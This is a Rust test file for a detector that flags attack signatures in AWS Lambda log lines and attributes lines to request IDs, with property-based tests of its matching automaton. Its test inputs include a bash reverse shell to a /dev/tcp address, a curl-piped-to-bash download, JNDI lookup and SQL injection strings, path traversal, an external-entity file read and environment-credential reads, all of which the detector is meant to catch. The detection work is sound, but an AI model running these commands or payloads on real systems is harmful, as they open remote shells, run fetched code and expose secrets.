//! Whether lines show what they should, held against a search that goes through each pattern alone.

use super::*;
use proptest::prelude::*;

fn signature(id: &str, any: &[&str]) -> Signature {
    let pattern = |text: &&str| LinePattern::try_from((*text).to_owned()).unwrap();
    let id = SignatureId::try_from(id.to_owned()).unwrap();
    Signature { id, any: any.iter().map(pattern).collect() }
}

fn shown(all: &[Signature], line: &str) -> Vec<String> {
    let signatures = Signatures::new(all);
    signatures.shown_by(line).into_iter().map(SignatureId::to_string).collect()
}

fn known_in(line: &str) -> Vec<String> {
    shown(&known(), line)
}

#[test]
fn an_attack_is_seen_however_its_letters_are_written() {
    for (line, want) in [
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell"),
        ("BASH -I >& /dev/TCP/198.51.100.7/4444 0>&1", "reverse-shell"),
        ("connecting to Stratum+TCP://pool.example:3333", "mining-pool"),
        ("GET /?file=/proc/self/environ", "credential-dump"),
        ("GET /?file=/proc/17/environ", "credential-dump"),
        ("export AWS_SECRET_ACCESS_KEY=abc", "credential-dump"),
        ("user-agent: ${JnDi:ldap://x}", "lookup-injection"),
        ("q=%24%7bjndi%3aldap", "lookup-injection"),
        ("name=a; curl http://x.example/i.sh", "command-injection"),
        ("curl http://x.example/i.sh -o - | bash", "command-injection"),
        ("id=1' OR '1'='1", "sql-injection"),
        ("GET /..%2F..%2Fetc", "path-traversal"),
        ("<!ENTITY x SYSTEM \"file:///etc/hosts\">", "external-entity"),
        ("chmod +x /tmp/a", "dropped-tool"),
        ("x.__class__.__mro__[1]", "code-injection"),
    ] {
        assert!(known_in(line).contains(&want.to_owned()), "{line}: {:?}", known_in(line));
    }
}

#[test]
fn what_functions_log_every_day_is_no_sign() {
    for line in [
        "INIT_START Runtime Version: python:3.13.v30\tRuntime Version ARN: arn:aws:lambda:eu-west-1::runtime:ab",
        "START RequestId: 6234bffe-149a-b642-81ff-2e8e376d8aff Version: $LATEST",
        "END RequestId: 6234bffe-149a-b642-81ff-2e8e376d8aff",
        "REPORT RequestId: 6234bffe-149a-b642-81ff-2e8e376d8aff\tDuration: 46.84 ms\tMemory Size: 192 MB",
        "EXTENSION\tName: otel\tState: Ready\tEvents: [INVOKE, SHUTDOWN]",
        r#"{"time":"2026-11-29T12:00:00Z","type":"platform.report","record":{"requestId":"6234bffe-149a-b642-81ff-2e8e376d8aff","metrics":{"durationMs":46.8}}}"#,
        r#"{"level":"INFO","requestId":"6234bffe-149a-b642-81ff-2e8e376d8aff","message":"order 17 paid"}"#,
        "SELECT a FROM b UNION SELECT a FROM c WHERE x = 1 OR y = 2",
        "reading AWS_SECRET_ACCESS_KEY from the environment",
        "Error: cannot find module '../../lib/etc'\n    at webpack:///../../../node_modules/x/index.js:1",
        "user-agent: curl/8.5.0",
        "",
    ] {
        assert_eq!(known_in(line), Vec::<String>::new(), "{line}");
    }
}

#[test]
fn in_json_what_is_escaped_is_read_and_elsewhere_a_backslash_is_one() {
    let attack = r#"{"message":"bash -i \u003e\u0026 \/dev\/tcp\/198.51.100.7\/1"}"#;
    assert_eq!(known_in(attack), ["reverse-shell"]);
    assert_eq!(known_in(&attack.replace('{', "")), Vec::<String>::new());
    for cut in [r#"{"a":"\"#, r#"{"a":"\u"#, r#"{"a":"\u00"#, r#"{"a":"\ud83d\u"#, "{\\"] {
        assert_eq!(known_in(cut), Vec::<String>::new(), "{cut}");
    }
}

#[test]
fn a_pattern_is_its_pieces_in_their_order_and_within_one_line() {
    let all = [signature("a", &["curl http*| sh"]), signature("b", &["abab*abab"])];
    for (line, want) in [
        ("curl http://x | sh", vec!["a"]),
        ("| sh curl http://x", vec![]),
        ("curl http://x\n | sh", vec![]),
        (r#"{"m":"curl http://x\n | sh"}"#, vec![]),
        ("ababab", vec![]),
        ("abababab", vec!["b"]),
        ("abab\nabab", vec![]),
    ] {
        assert_eq!(shown(&all, line), want, "{line}");
    }
}

#[test]
fn what_says_too_little_or_begins_or_ends_with_anything_is_no_pattern() {
    for text in ["", "abc", "***", "a*b*c", "*abcd", "abcd*", "ab\ncd", &"x".repeat(201)] {
        assert!(LinePattern::try_from(text.to_owned()).is_err(), "{text}");
    }
    for text in ["abcd", "ab*cd", "äöüß"] {
        assert!(LinePattern::try_from(text.to_owned()).is_ok(), "{text}");
    }
}

const ONE: &str = "6234bffe-149a-b642-81ff-2e8e376d8aff";
const OTHER: &str = "9e5f4b3a-0c1d-4e2f-8a7b-6c5d4e3f2a1b";

#[test]
fn which_request_a_line_belongs_to_is_read_where_lambda_and_its_runtimes_write_it() {
    for line in [
        format!("START RequestId: {ONE} Version: $LATEST"),
        format!("2026-11-29T12:00:00.000Z\t{ONE}\tINFO\tpaid"),
        format!("[INFO]\t2026-11-29T12:00:00.000Z\t{ONE}\tpaid"),
        format!("RequestId: {ONE} Error: Runtime exited"),
        format!(r#"{{"timestamp":"t","level":"INFO","requestId":"{ONE}","message":"paid"}}"#),
        format!(r#"{{"level":"INFO","message":{{"a":1}},"AWSRequestId":"{ONE}"}}"#),
        format!(r#"{{"type":"platform.fault","record":{{"requestId":"{ONE}"}}}}"#),
    ] {
        let id = Requests::default().of(&line);
        assert_eq!(id.map(|id| id.to_string()).as_deref(), Some(ONE), "{line}");
    }
    for line in [
        "paid".to_owned(),
        format!("user says {ONE}"),
        "RequestId: <script>".to_owned(),
        format!(r#"{{"message":"requestId {ONE}"}}"#),
        r#"{"requestId":{"a":1}}"#.to_owned(),
        r#"{"requestId":"drop table"}"#.to_owned(),
    ] {
        assert_eq!(Requests::default().of(&line), None, "{line}");
    }
}

#[test]
fn what_names_no_request_belongs_to_the_one_that_goes_on_in_its_stream() {
    let mut requests = Requests::default();
    let (one, other) = (RequestId::parse(ONE), RequestId::parse(OTHER));
    for (line, want) in [
        ("cold".to_owned(), None),
        (format!("START RequestId: {ONE} Version: 3"), one.clone()),
        ("paid".to_owned(), one.clone()),
        (format!("2026\t{OTHER}\tINFO\tlate"), other.clone()),
        (format!("END RequestId: {ONE}"), one),
        ("between".to_owned(), None),
        (
            format!(r#"{{"type":"platform.start","record":{{"requestId":"{OTHER}"}}}}"#),
            other.clone(),
        ),
        ("paid".to_owned(), other),
    ] {
        requests.tell(&line);
        assert_eq!(requests.of(&line), want, "{line}");
    }
}

/// Piece after piece, each searched for alone.
fn shows(pattern: &LinePattern, line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    lower.split('\n').any(|line| {
        let mut rest = line;
        pattern.pieces().all(|piece| {
            let found = rest.find(&piece.to_ascii_lowercase());
            rest = found.and_then(|at| rest.get(at + piece.len()..)).unwrap_or_default();
            found.is_some()
        })
    })
}

proptest! {
    #[test]
    fn the_automaton_sees_what_a_search_for_each_pattern_sees(
        patterns in prop::collection::vec("[abA][ab*]{2,8}[ab][ab]{2}", 1..8),
        line in "[abAB\nc]{0,80}",
    ) {
        let patterns: Vec<&String> = patterns
            .iter()
            .filter(|text| LinePattern::try_from((*text).clone()).is_ok())
            .collect();
        let all: Vec<Signature> = patterns
            .iter()
            .enumerate()
            .map(|(at, text)| signature(&format!("s{at}"), &[text.as_str()]))
            .collect();
        let want: Vec<String> = all
            .iter()
            .filter(|one| one.any.iter().any(|pattern| shows(pattern, &line)))
            .map(|one| one.id.to_string())
            .collect();
        prop_assert_eq!(shown(&all, &line), want);
    }

    #[test]
    fn no_line_panics(line in ".{0,200}") {
        known_in(&line);
        Requests::default().tell(&line);
        Requests::default().of(&line);
    }
}
